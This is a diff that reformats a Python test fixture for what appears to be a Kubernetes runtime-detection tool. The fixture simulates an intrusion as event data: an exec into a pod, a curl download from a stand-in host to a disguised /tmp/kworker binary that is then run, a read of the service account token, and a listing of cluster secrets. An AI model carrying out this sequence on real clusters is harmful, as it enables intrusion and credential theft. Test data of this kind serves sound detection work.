@@ -79,76 +79,150 @@ def attack_events(
 
     def proc(pid: int, exec_id: str, parent: str, exe: str, args: list[str], **kw: object) -> Process:
         return Process(
-            pid=pid, ppid=4100, exec_id=exec_id, parent_exec_id=parent, exe=exe, args=args,
-            comm=exe.rsplit("/", 1)[-1][:15], uid=0, euid=0, cwd="/app", **kw,  # type: ignore[arg-type]
+            pid=pid,
+            ppid=4100,
+            exec_id=exec_id,
+            parent_exec_id=parent,
+            exe=exe,
+            args=args,
+            comm=exe.rsplit("/", 1)[-1][:15],
+            uid=0,
+            euid=0,
+            cwd="/app",
+            **kw,  # type: ignore[arg-type]
         )
 
     exec_uri = f"/api/v1/namespaces/{namespace}/pods/{pod}/exec?command=bash&container=api&stdin=true&stdout=true&tty=true"
     events = [
         ev(
-            EventKind.K8S_API, 0,
+            EventKind.K8S_API,
+            0,
             audit=Audit(
-                audit_id=f"{tag}-{t0}-exec", verb="create", user="alice@example.com", groups=["system:authenticated", "dev"],
-                resource="pods", subresource="exec", namespace=namespace, name=pod, request_uri=exec_uri,
-                source_ips=["192.0.2.10"], user_agent="kubectl/v1.30.2 (linux/amd64)", response_code=101,
-                decision="allow", request={"command": ["bash"], "container": "api", "tty": True},
+                audit_id=f"{tag}-{t0}-exec",
+                verb="create",
+                user="alice@example.com",
+                groups=["system:authenticated", "dev"],
+                resource="pods",
+                subresource="exec",
+                namespace=namespace,
+                name=pod,
+                request_uri=exec_uri,
+                source_ips=["192.0.2.10"],
+                user_agent="kubectl/v1.30.2 (linux/amd64)",
+                response_code=101,
+                decision="allow",
+                request={"command": ["bash"], "container": "api", "tty": True},
             ),
         ),
-        ev(EventKind.PROCESS_EXEC, sec, process=proc(4242, shell, runc, "/bin/bash", ["bash"], tty=True, parent_exe="/usr/bin/runc")),
         ev(
-            EventKind.PROCESS_EXEC, 2 * sec,
-            process=proc(4250, curl, shell, "/usr/bin/curl", ["curl", "-so", "/tmp/kworker", "http://203.0.113.7/k"], parent_exe="/bin/bash"),
+            EventKind.PROCESS_EXEC,
+            sec,
+            process=proc(4242, shell, runc, "/bin/bash", ["bash"], tty=True, parent_exe="/usr/bin/runc"),
         ),
         ev(
-            EventKind.NET_CONNECT, 2 * sec + 50_000_000,
+            EventKind.PROCESS_EXEC,
+            2 * sec,
+            process=proc(
+                4250,
+                curl,
+                shell,
+                "/usr/bin/curl",
+                ["curl", "-so", "/tmp/kworker", "http://203.0.113.7/k"],
+                parent_exe="/bin/bash",
+            ),
+        ),
+        ev(
+            EventKind.NET_CONNECT,
+            2 * sec + 50_000_000,
             process=proc(4250, curl, shell, "/usr/bin/curl", []),
             network=Network(src_ip=pod_ip, src_port=40112, dst_ip="203.0.113.7", dst_port=80),
         ),
         ev(
-            EventKind.FILE_OPEN, 2 * sec + 90_000_000,
+            EventKind.FILE_OPEN,
+            2 * sec + 90_000_000,
             process=proc(4250, curl, shell, "/usr/bin/curl", []),
             file=File(path="/tmp/kworker", flags=0o1101, write=True),
         ),
         ev(
-            EventKind.PROCESS_EXEC, 4 * sec,
-            process=proc(4261, payload, shell, "/tmp/kworker", ["/tmp/kworker", "-B"], parent_exe="/bin/bash"),
+            EventKind.PROCESS_EXEC,
+            4 * sec,
+            process=proc(
+                4261, payload, shell, "/tmp/kworker", ["/tmp/kworker", "-B"], parent_exe="/bin/bash"
+            ),
         ),
         ev(
-            EventKind.PROCESS_EXEC, 5 * sec,
-            process=proc(4270, cat, shell, "/bin/cat", ["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"], parent_exe="/bin/bash"),
+            EventKind.PROCESS_EXEC,
+            5 * sec,
+            process=proc(
+                4270,
+                cat,
+                shell,
+                "/bin/cat",
+                ["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"],
+                parent_exe="/bin/bash",
+            ),
         ),
         ev(
-            EventKind.FILE_OPEN, 5 * sec + 10_000_000,
+            EventKind.FILE_OPEN,
+            5 * sec + 10_000_000,
             process=proc(4270, cat, shell, "/bin/cat", []),
             file=File(path="/var/run/secrets/kubernetes.io/serviceaccount/token"),
         ),
         ev(
-            EventKind.K8S_API, 7 * sec,
+            EventKind.K8S_API,
+            7 * sec,
             audit=Audit(
-                audit_id=f"{tag}-{t0}-secrets", verb="list", user=f"system:serviceaccount:{namespace}:{namespace}-api",
-                groups=["system:serviceaccounts", f"system:serviceaccounts:{namespace}", "system:authenticated"],
-                resource="secrets", namespace=namespace, request_uri=f"/api/v1/namespaces/{namespace}/secrets",
-                source_ips=[pod_ip], user_agent="curl/8.5.0", response_code=200, decision="allow",
+                audit_id=f"{tag}-{t0}-secrets",
+                verb="list",
+                user=f"system:serviceaccount:{namespace}:{namespace}-api",
+                groups=[
+                    "system:serviceaccounts",
+                    f"system:serviceaccounts:{namespace}",
+                    "system:authenticated",
+                ],
+                resource="secrets",
+                namespace=namespace,
+                request_uri=f"/api/v1/namespaces/{namespace}/secrets",
+                source_ips=[pod_ip],
+                user_agent="curl/8.5.0",
+                response_code=200,
+                decision="allow",
             ),
         ),
     ]
     for e in events:
         if e.kind is EventKind.K8S_API:
             # the API call's workload is the object it targets, not the pod that made it
-            e.workload = Workload(cluster=cluster, namespace=namespace, pod=pod if e.audit and e.audit.resource == "pods" else "")
+            e.workload = Workload(
+                cluster=cluster,
+                namespace=namespace,
+                pod=pod if e.audit and e.audit.resource == "pods" else "",
+            )
     return events
 
 
 def benign_events(*, start_ns: int, count: int, cluster: str = "local", node: str = "node-1") -> list[Event]:
     """Routine container activity (nginx serving, reading its config): no rule should fire."""
     out = []
-    wl = Workload(cluster=cluster, namespace="web", pod="web-5c6d-x1", container="nginx", container_id="c" * 64,
-                  workload_kind="Deployment", workload_name="web", image="nginx:1.27")
+    wl = Workload(
+        cluster=cluster,
+        namespace="web",
+        pod="web-5c6d-x1",
+        container="nginx",
+        container_id="c" * 64,
+        workload_kind="Deployment",
+        workload_name="web",
+        image="nginx:1.27",
+    )
     for i in range(count):
         out.append(
             Event(
-                event_id=f"benign-{start_ns}-{i}", time=start_ns + i * 1000, node=node, source=Source.EBPF,
-                kind=EventKind.FILE_OPEN, workload=wl,
+                event_id=f"benign-{start_ns}-{i}",
+                time=start_ns + i * 1000,
+                node=node,
+                source=Source.EBPF,
+                kind=EventKind.FILE_OPEN,
+                workload=wl,
                 process=Process(pid=7, exe="/usr/sbin/nginx", exec_id="nginx-7", comm="nginx"),
                 file=File(path="/usr/share/nginx/html/index.html"),
             )
